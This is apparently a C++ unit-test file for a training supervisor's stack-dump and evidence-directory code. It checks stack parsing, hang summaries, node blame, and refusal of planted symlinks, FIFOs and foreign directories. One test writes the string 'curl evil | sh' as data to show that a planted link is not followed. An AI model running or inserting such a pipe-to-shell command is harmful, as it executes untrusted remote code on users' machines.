#include "stack_dump.hpp"

#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <fstream>
#include <thread>

#include "fixture.hpp"
#include "hang_verdict.hpp"

using namespace trainctl;

namespace {

const char* kFaulthandler =
    "Thread 0x00007f0000000001 (most recent call first):\n"
    "  File \"/usr/lib/python3.11/threading.py\", line 320 in wait\n"
    "  File \"/usr/lib/python3.11/threading.py\", line 1002 in _bootstrap\n"
    "\n"
    "Current thread 0x00007f0000000002 (most recent call first):\n"
    "  File \"/usr/lib/python3/dist-packages/torch/distributed/distributed_c10d.py\", line 1541 in all_reduce\n"
    "  File \"/opt/trainctl/controller.py\", line 160 in _torch_allreduce\n"
    "  File \"/home/a/train.py\", line 42 in <module>\n";

}  // namespace

TEST(StackDump, TheMainThreadsInnermostPythonFrameNotAWorkerThreads) {
  EXPECT_EQ(innermost_python_frame(kFaulthandler), "all_reduce (distributed_c10d.py:1541)");
  EXPECT_EQ(innermost_python_frame(kFaulthandler, "0x00007f0000000002"), "all_reduce (distributed_c10d.py:1541)");
  EXPECT_EQ(innermost_python_frame(""), "");
  EXPECT_EQ(innermost_python_frame("garbage\nFile \"x\n"), "");
}

TEST(StackDump, TheProgramsOwnFrameIsOutsideTorchAndTrainctl) {
  const std::string waiting =
      "Current thread 0x00007f0000000002 (most recent call first):\n"
      "  File \"/usr/lib/python3/dist-packages/trainctl/collectives.py\", line 58 in timed\n"
      "  File \"/usr/lib/python3/dist-packages/torch/distributed/distributed_c10d.py\", line 5055 in all_gather\n"
      "  File \"/venv/lib/python3.12/site-packages/trainctl/collectives.py\", line 58 in timed\n"
      "  File \"/home/a/train.py\", line 88 in train_step\n"
      "  File \"/home/a/train.py\", line 120 in <module>\n";
  EXPECT_EQ(innermost_python_frame(waiting, "0x00007f0000000002", true), "train_step (train.py:88)");
  EXPECT_EQ(innermost_python_frame(waiting, "0x00007f0000000002"), "timed (collectives.py:58)");
}

// faulthandler lists at most 100 threads, newest first: with more, the main thread's
// block is cut off, and the summary must not name a worker's frame instead.
TEST(StackDump, ManyThreadsNeverNameAWorkersFrame) {
  std::string dump;
  for (int i = 0; i < 100; ++i)
    dump += "Thread 0x00007f00000001" + std::to_string(10 + i) +
            " (most recent call first):\n  File \"/usr/lib/python3.11/threading.py\", line 320 in wait\n"
            "  File \"/usr/lib/python3.11/threading.py\", line 1002 in _bootstrap\n\n";
  dump += "...\n";
  EXPECT_EQ(innermost_python_frame(dump), "") << "no main thread in the dump: no Python frame";
  EXPECT_EQ(innermost_python_frame(dump, "0x00007f0000000002"), "");
  // The main thread named by the package, in a dump where it is not last.
  const std::string two =
      "Current thread 0x00007f0000000002 (most recent call first):\n"
      "  File \"/home/a/train.py\", line 7 in step\n  File \"/home/a/train.py\", line 9 in run\n\n"
      "Thread 0x00007f0000000001 (most recent call first):\n"
      "  File \"/home/a/w.py\", line 3 in <module>\n";
  EXPECT_EQ(innermost_python_frame(two, "0x00007f0000000002"), "step (train.py:7)");
}

TEST(StackDump, TheNativeFrameOfTheMainThreadFromEuStackOrGdb) {
  const std::string eu = "PID 7 - process\nTID 9:\n#0  0x1 __poll\nTID 7:\n#0  0x00007f pause\n#1  0x2 main\n";
  EXPECT_EQ(innermost_native_frame(eu, 7), "pause (native)");
  const std::string gdb =
      "Thread 2 (Thread 0x7f (LWP 9) \"w\"):\n#0  0x1 in poll () from /lib\n"
      "Thread 1 (Thread 0x7e (LWP 7) \"python3\"):\n#0  0x00007f in __GI___pause () at pause.c:29\n";
  EXPECT_EQ(innermost_native_frame(gdb, 7), "__GI___pause (native)");
  EXPECT_EQ(innermost_native_frame(eu, 8), "");
}

// glibc >= 2.41: the syscall stub a blocked thread sits in has no symbol, so frame #0
// is unnamed; the summary names the innermost frame that has one.
TEST(StackDump, TheInnermostNamedNativeFrameWhenTheFirstHasNoName) {
  const std::string eu =
      "TID 7:\n#0  0x00007f3b2c2e4f3d\n#1  0x00007f3b2c2e5000 - /usr/lib/libc.so.6\n"
      "#2  0x00007f3b2c2e6000 pause\n#3  0x2 main\n";
  EXPECT_EQ(innermost_native_frame(eu, 7), "pause (native)");
  const std::string gdb =
      "Thread 1 (Thread 0x7e (LWP 7) \"python3\"):\n#0  0x00007f in ?? () from /lib/libc.so.6\n"
      "#1  0x00007f in __GI___pause () at pause.c:29\n";
  EXPECT_EQ(innermost_native_frame(gdb, 7), "__GI___pause (native)");
  EXPECT_EQ(innermost_native_frame("TID 7:\n#0  0x1\n#1  0x2\n", 7), "") << "no named frame: no guess";
}

TEST(StackDump, TheSummaryNamesTheCommonFrameAndTheRanksElsewhere) {
  std::vector<rank_stack> s(4);
  for (int r = 0; r < 4; ++r) {
    s[r].rank = r;
    s[r].host = r < 2 ? "n1" : "n2";
    s[r].frame = "all_reduce (distributed_c10d.py:1541)";
  }
  s[3].frame = "load_batch (train.py:88)";
  EXPECT_EQ(
      summarize(s),
      "3 of 4 ranks in all_reduce (distributed_c10d.py:1541); elsewhere: rank 3 on n2 in load_batch (train.py:88)");
  EXPECT_EQ(summarize({}), "no rank processes found");
  EXPECT_TRUE(suspect_hosts(s).empty()) << "rank 2 on n2 is with the others: the program's own path, not n2";
  EXPECT_EQ(unblamed_hosts(s), (std::set<std::string>{"n2"}));
  s[2].frame = "load_batch (train.py:88)";
  EXPECT_TRUE(suspect_hosts(s).empty()) << "half the ranks elsewhere: no clear odd one out";
  EXPECT_EQ(
      summarize(s),
      "4 ranks in 2 frames, no one frame holding the most: rank 0 on n1 in all_reduce (distributed_c10d.py:1541); "
      "rank 1 on n1 in all_reduce (distributed_c10d.py:1541); rank 2 on n2 in load_batch (train.py:88); "
      "rank 3 on n2 in load_batch (train.py:88)");
}

// Two ranks, one stopped and one waiting for it: the frame that sorts first is no
// majority, so neither rank is named the odd one out (the summary once named the waiting
// rank's "all_reduce" as elsewhere when the stopped one's frame sorted first).
TEST(StackDump, ATieNamesNoOddOneOut) {
  std::vector<rank_stack> s(2);
  s[0] = {.rank = 0, .pid = 10, .host = "n1", .frame = "wait (light_rank.py:40)"};
  s[1] = {.rank = 1, .pid = 11, .host = "n2", .frame = "hang (train_example.py:52)"};
  EXPECT_EQ(summarize(s),
            "2 ranks in 2 frames, no one frame holding the most: rank 0 on n1 in wait (light_rank.py:40); "
            "rank 1 on n2 in hang (train_example.py:52)");
  EXPECT_TRUE(suspect_hosts(s).empty());
  s.resize(1);
  EXPECT_EQ(summarize(s), "1 of 1 ranks in wait (light_rank.py:40)");
}

// A rank that is no Python program still gets its native stack, and the header says so.
TEST(StackDump, ARankWithoutThePythonPackageGetsANativeStackAndTheDumpReadsBack) {
  trainctl_test::temp_dir t;
  const pid_t child = trainctl_test::fork_child();
  if (child == 0) {
    pause();
    _exit(0);
  }
  // Dump only once the child sleeps in pause(): on a loaded machine (the test command
  // runs the releases' unit tests beside the host's end-to-end tests) it may not have
  // got there yet, and its innermost frame would be fork's.
  for (int i = 0; i < 500 && trainctl_test::process_state(child) != 'S'; ++i) usleep(10000);
  ASSERT_EQ(trainctl_test::process_state(child), 'S') << "the child never reached pause()";
  proc_info p;
  p.pid = child;
  p.ours = true;
  dump_options o;
  o.out_dir = t / "stacks";
  std::string why;
  const owned_fd dir = open_stacks_dir(o.out_dir, false, &why);
  ASSERT_TRUE(dir) << why;
  o.dir_fd = dir.get();
  o.id = {"7.0", "hang", 1000};
  o.python_dir = t.path();
  o.stack_signal = SIGURG;
  o.reason = "test";
  const auto out = dump_stacks({p}, o);
  kill(child, SIGKILL);
  waitpid(child, nullptr, 0);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_FALSE(out[0].python);
  const std::string text = trainctl_test::read_file(out[0].file);
  EXPECT_NE(text.find("=== trainctl stacks: rank"), std::string::npos) << text;
  EXPECT_NE(text.find("(none: the rank does not use trainctl's Python package"), std::string::npos) << text;
  if (access("/usr/bin/eu-stack", X_OK) == 0) {
    EXPECT_TRUE(out[0].native) << text;
    EXPECT_NE(out[0].frame.find("pause"), std::string::npos) << out[0].frame;
  }
  const auto back = read_dumps(o.dir_fd, "7.0", "hang", 1000);
  ASSERT_EQ(back.size(), 1u);
  EXPECT_EQ(back[0].frame, out[0].frame);
  EXPECT_EQ(back[0].pid, child);
  EXPECT_EQ(out[0].state, 'S') << "a process in pause() sleeps, before the tracer stops it";
  EXPECT_EQ(back[0].state, out[0].state);
  EXPECT_TRUE(read_dumps(o.dir_fd, "7.0", "hang", 2000).empty()) << "an earlier dump is not this stall's";
  EXPECT_TRUE(read_dumps(o.dir_fd, "8.0", "hang", 0).empty()) << "another run's dump";
  EXPECT_TRUE(read_dumps(o.dir_fd, "7.0", "on-demand", 0).empty()) << "another kind of dump";
  struct stat st {};
  ASSERT_EQ(stat(out[0].file.c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0600u) << "stacks are the user's alone outside a group log directory";
}

namespace {
volatile sig_atomic_t g_asked = 0;
void note_asked(int) { g_asked = 1; }
}  // namespace

// A rank's stacks.<pid> beside the node state: a FIFO or a link planted under that name
// (a state directory someone squatted) is neither opened to wait on nor followed; the
// rank is not asked, and its dump says why. A plain open of the FIFO would hold the dump
// until its limit; here the test's own TIMEOUT would catch that.
TEST(StackDump, AFifoOrALinkAsTheRanksStacksFileIsNeitherWaitedOnNorFollowed) {
  for (const bool fifo : {true, false}) {
    trainctl_test::temp_dir t;
    const pid_t child = trainctl_test::fork_child();
    if (child == 0) {
      signal(SIGURG, note_asked);  // catches the stack signal, as the Python package does
      while (g_asked == 0) pause();
      _exit(3);  // asked: the test sees the exit status
    }
    for (int i = 0; i < 500 && trainctl_test::process_state(child) != 'S'; ++i) usleep(10000);
    const std::string planted = t / ("stacks." + std::to_string(child));
    const std::string target = t / "bashrc";
    t.write("bashrc", "# mine\n");
    if (fifo)
      ASSERT_EQ(mkfifo(planted.c_str(), 0666), 0);
    else
      ASSERT_EQ(symlink(target.c_str(), planted.c_str()), 0);
    proc_info p;
    p.pid = child;
    p.ours = true;
    dump_options o;
    o.out_dir = t / "stacks";
    std::string why;
    const owned_fd dir = open_stacks_dir(o.out_dir, false, &why);
    ASSERT_TRUE(dir) << why;
    o.dir_fd = dir.get();
    o.id = {"7.0", "hang", 1000};
    o.python_dir = t.path();
    o.stack_signal = SIGURG;
    o.reason = "test";
    const auto out = dump_stacks({p}, o);
    int status = 0;
    const pid_t ended = waitpid(child, &status, WNOHANG);
    kill(child, SIGKILL);
    waitpid(child, nullptr, 0);
    EXPECT_EQ(ended, 0) << (fifo ? "fifo" : "link") << ": the rank was asked for its stacks";
    ASSERT_EQ(out.size(), 1u);
    EXPECT_FALSE(out[0].python);
    const std::string text = trainctl_test::read_file(out[0].file);
    EXPECT_NE(text.find("(not asked for: " + planted + " is not a regular file of this user)"), std::string::npos)
        << text;
    EXPECT_EQ(trainctl_test::read_file(target), "# mine\n");
  }
}

// What another user (or a teammate in a group-writable log directory) can put where
// the stacks go: nothing of it is written through, read, or waited on.
TEST(StackDump, PlantedLinksFifosAndForeignDirectoriesAreRefused) {
  trainctl_test::temp_dir t;
  std::string why;
  // A directory others can write: refused, with one line.
  const std::string open_dir = t / "stacks-1";
  ASSERT_EQ(mkdir(open_dir.c_str(), 0777), 0);
  chmod(open_dir.c_str(), 0777);
  EXPECT_FALSE(open_stacks_dir(open_dir, false, &why));
  EXPECT_NE(why.find("can be written by others"), std::string::npos) << why;
  // A symlink in place of the directory: refused.
  ASSERT_EQ(symlink(t.path().c_str(), (t / "stacks-2").c_str()), 0);
  EXPECT_FALSE(open_stacks_dir(t / "stacks-2", false, &why));
  // In the user's own directory: a link to the user's file and a FIFO under the names
  // the dump writes are refused at once, and the link's target is untouched.
  const owned_fd dir = open_stacks_dir(t / "stacks-3", false, &why);
  ASSERT_TRUE(dir) << why;
  const int fd = dir.get();
  const std::string target = t / "bashrc";
  { std::ofstream(target) << "# mine\n"; }
  ASSERT_EQ(symlink(target.c_str(), (t / "stacks-3/summary.txt").c_str()), 0);
  ASSERT_EQ(mkfifo((t / "stacks-3/rank0.txt").c_str(), 0666), 0);
  EXPECT_NE(append_in_dir(fd, "summary.txt", "curl evil | sh\n", 0600), "");
  EXPECT_NE(append_in_dir(fd, "rank0.txt", "x\n", 0600), "") << "a FIFO would have blocked the open";
  EXPECT_EQ(trainctl_test::read_file(target), "# mine\n");
  EXPECT_TRUE(read_dumps(fd, "7.0", "hang", 0).empty());
}

TEST(StackDump, HostsThatAreNotOneNodeNameAreNeverSuspects) {
  std::vector<rank_stack> s(5);
  for (int r = 0; r < 5; ++r) {
    s[r].rank = r;
    s[r].host = "n1";
    s[r].frame = "all_reduce";
  }
  s[4].host = "n[1-3]";
  s[4].frame = "hang";
  EXPECT_TRUE(suspect_hosts(s).empty());
  s[4].host = "n2";
  EXPECT_TRUE(suspect_hosts(s).empty()) << "one rank of n2, elsewhere, not in the kernel: no evidence against n2";
  s[4].state = 'D';
  EXPECT_EQ(suspect_hosts(s).count("n2"), 1u);
}

// A hang points at a node only when the node's own ranks say so: all of them stuck
// elsewhere than most, or one waiting in the kernel. A rank-dependent path of the
// program (one rank of a node in its own code while its node's others wait in the
// collective with everyone) blames nobody.
TEST(StackDump, AHangBlamesANodeOnlyWhenItsOwnRanksPointAtIt) {
  std::vector<rank_stack> s(6);
  for (int r = 0; r < 6; ++r) {
    s[r].rank = r;
    s[r].host = "n" + std::to_string(1 + r / 2);
    s[r].frame = "all_reduce (distributed_c10d.py:1541)";
  }
  s[4].frame = s[5].frame = "read (dataset.py:12)";  // both of n3's ranks
  const auto blamed = suspect_hosts(s);
  ASSERT_EQ(blamed.size(), 1u);
  EXPECT_EQ(blamed.begin()->first, "n3");
  EXPECT_EQ(blamed.begin()->second, "all 2 of its ranks stuck elsewhere than most");
  EXPECT_TRUE(unblamed_hosts(s).empty());
  s[5].frame = s[0].frame;  // n3's other rank is with the others
  EXPECT_TRUE(suspect_hosts(s).empty());
  EXPECT_EQ(unblamed_hosts(s), (std::set<std::string>{"n3"}));
  s[4].state = 'D';  // but the odd one waits in the kernel: a device or a filesystem of n3
  EXPECT_EQ(suspect_hosts(s).at("n3"),
            "holds a rank stuck in the kernel (a device or a filesystem) while most wait elsewhere");
}

// PyTorch's flight recorder cannot run here (no NCCL, no GPU): a thread reading the FIFO
// stands in for the rank's reader, which is all the supervisor talks to.
TEST(StackDump, TheFlightRecorderPipeOfTheRankIsWrittenTo) {
  trainctl_test::temp_dir t;
  const std::string stem = t / "nccl_pipe_", pipe = stem + "5.pipe";
  ASSERT_EQ(mkfifo(pipe.c_str(), 0600), 0);
  std::string got;
  std::thread reader([&] {
    std::ifstream in(pipe);
    std::getline(in, got);
  });
  const pid_t child = trainctl_test::fork_child();
  if (child == 0) {
    setenv("RANK", "5", 1);
    setenv("TORCH_NCCL_DEBUG_INFO_PIPE_FILE", stem.c_str(), 1);
    execl("/bin/sleep", "sleep", "30", static_cast<char*>(nullptr));
    _exit(127);
  }
  for (int i = 0; i < 200 && proc_environ_value(child, "RANK") != "5"; ++i) usleep(10000);
  proc_info p;
  p.pid = child;
  p.ours = true;
  dump_options o;
  o.out_dir = t / "stacks";
  std::string why;
  const owned_fd dir = open_stacks_dir(o.out_dir, false, &why);
  o.dir_fd = dir.get();
  o.reason = "test";
  const auto out = dump_stacks({p}, o);
  kill(child, SIGKILL);
  waitpid(child, nullptr, 0);
  reader.join();
  EXPECT_EQ(got, "1");
  const std::string text = trainctl_test::read_file(t / "stacks/rank5.txt");
  EXPECT_NE(text.find("dump requested through " + pipe + "; PyTorch writes it to /tmp/nccl_trace_rank_5"),
            std::string::npos)
      << text;
}

// Per-job evidence goes under LOG_DIR/trainctl-<user>, the user's own directory: private
// in a private log directory, readable by the team (0750) in a group one.
TEST(EvidenceRoot, TheUsersOwnDirectoryInTheLogDirectory) {
  trainctl_test::temp_dir t;
  std::string why, note;
  const std::string root = evidence_root(t.path(), false, &why, &note);
  ASSERT_FALSE(root.empty()) << why;
  EXPECT_EQ(root.substr(0, t.path().size() + 10), t.path() + "/trainctl-");
  struct stat st {};
  ASSERT_EQ(lstat(root.c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0700u);
  EXPECT_TRUE(note.empty()) << note;
  EXPECT_EQ(evidence_root(t.path(), true, &why), root) << "found again";
  trainctl_test::temp_dir team;
  const std::string shared = evidence_root(team.path(), true, &why);
  ASSERT_EQ(lstat(shared.c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0750u);
}

// Another user who makes LOG_DIR/trainctl-<user> first (a teammate in the group-writable
// log directory, as a directory, a link or a file) takes nothing: the evidence goes to
// the user's home, the same path on every node, and one line says so. (The squatter is
// played by chown, as root; test_hang_safety does it as real users.)
TEST(EvidenceRoot, ANameAnotherUserTookFirstGivesWayToTheHome) {
  trainctl_test::temp_dir t, home;
  const std::string fallback = home / "evidence";
  setenv("TRAINCTL_EVIDENCE_HOME", fallback.c_str(), 1);
  for (const char* kind : {"dir", "link", "file"}) {
    trainctl_test::temp_dir logs;
    std::string why, note;
    const std::string own = evidence_root(logs.path(), false, &why);
    ASSERT_FALSE(own.empty()) << why;
    ASSERT_EQ(rmdir(own.c_str()), 0);
    const std::string k = kind;
    if (k == "dir") {
      ASSERT_EQ(mkdir(own.c_str(), 0777), 0);
    } else if (k == "link") {
      ASSERT_EQ(symlink(home.path().c_str(), own.c_str()), 0);
    } else {
      const int fd = open(own.c_str(), O_WRONLY | O_CREAT | O_EXCL | O_NOFOLLOW | O_CLOEXEC, 0644);
      ASSERT_GE(fd, 0);
      close(fd);
    }
    ASSERT_EQ(lchown(own.c_str(), 12345, 12345), 0);
    EXPECT_EQ(evidence_root(logs.path(), false, &why, &note), fallback) << kind << ": " << why;
    EXPECT_NE(note.find("belongs to uid 12345"), std::string::npos) << note;
    EXPECT_NE(note.find(fallback), std::string::npos) << note;
    struct stat st {};
    ASSERT_EQ(lstat(fallback.c_str(), &st), 0);
    EXPECT_TRUE(S_ISDIR(st.st_mode));
    EXPECT_EQ(st.st_mode & 0777, 0700u);
  }
  unsetenv("TRAINCTL_EVIDENCE_HOME");
}

// The user's own directory with a mode that lets others write is the user's to fix: one
// line saying so, never a silent move elsewhere.
TEST(EvidenceRoot, TheUsersOwnDirectoryWritableByOthersIsRefusedInOneLine) {
  trainctl_test::temp_dir t;
  std::string why;
  const std::string own = evidence_root(t.path(), false, &why);
  ASSERT_EQ(chmod(own.c_str(), 0777), 0);
  EXPECT_EQ(evidence_root(t.path(), false, &why), "");
  EXPECT_NE(why.find("can be written by others"), std::string::npos) << why;
  EXPECT_EQ(why.find('\n'), std::string::npos) << why;
}
